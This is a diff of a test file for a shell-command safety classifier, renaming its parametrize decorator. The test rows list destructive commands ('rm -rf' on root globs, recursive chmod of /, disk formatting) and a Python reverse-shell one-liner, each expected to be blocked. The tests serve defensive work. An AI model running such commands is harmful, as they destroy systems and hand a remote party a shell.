@@ -37,7 +37,7 @@ def rows_with_verdicts(text: str) -> list[tuple[str, str]]:
     return with_verdicts(rows(text))
 
 
-@pytest.mark.parametrize(
+@each_row(
     "command",
     rows(r"""
     rm -rf /[!.]*
@@ -71,8 +71,8 @@ def test_a_glob_that_finds_what_the_system_stands_on_is_a_catastrophe(command: s
     assert verdict(command) == "block"
 
 
-@pytest.mark.parametrize(
-    ("expected", "command"),
+@each_row(
+    "expected, command",
     rows_with_verdicts(r"""
     ask: rm -rf /tmp/[a-z]*
     ask: rm -rf /t*p/x*
@@ -136,8 +136,8 @@ def test_find_that_ruins_all_it_finds_is_a_catastrophe(command: str) -> None:
     assert verdict(command) == "block"
 
 
-@pytest.mark.parametrize(
-    ("expected", "command"),
+@each_row(
+    "expected, command",
     rows_with_verdicts(r"""
     ask: find / -exec echo rm {} \;
     ask: find / -type f -exec grep -l rm {} +
@@ -171,7 +171,7 @@ def test_find_that_ruins_less_is_no_catastrophe(expected: str, command: str) -> 
     assert verdict(command) == expected
 
 
-@pytest.mark.parametrize(
+@each_row(
     "command",
     rows(r"""
     chmod -R -x /
@@ -209,7 +209,7 @@ def test_permissions_of_less_are_no_catastrophe(expected: str, command: str) -> 
     assert verdict(command) == expected
 
 
-@pytest.mark.parametrize(
+@each_row(
     "command",
     rows(r"""
     mkntfs /dev/sda1
@@ -260,7 +260,7 @@ def test_reading_a_disk_or_writing_its_image_is_no_catastrophe(expected: str, co
     assert verdict(command) == expected
 
 
-@pytest.mark.parametrize(
+@each_row(
     "command",
     rows(r"""
     python3 -c 'import socket,os;s=socket.socket();s.connect(("h",1));os.dup2(s.fileno(),0)'
@@ -284,8 +284,8 @@ def test_handing_over_the_shell_is_a_catastrophe(command: str) -> None:
     assert verdict(command) == "block"
 
 
-@pytest.mark.parametrize(
-    ("expected", "command"),
+@each_row(
+    "expected, command",
     rows_with_verdicts(r"""
     try: python3 -c "import socket,subprocess; print(socket.gethostname()); subprocess.run(['git','status'])"
     try: python3 -c "import socket,os; print(socket.gethostbyname('x')); os.system('ls')"
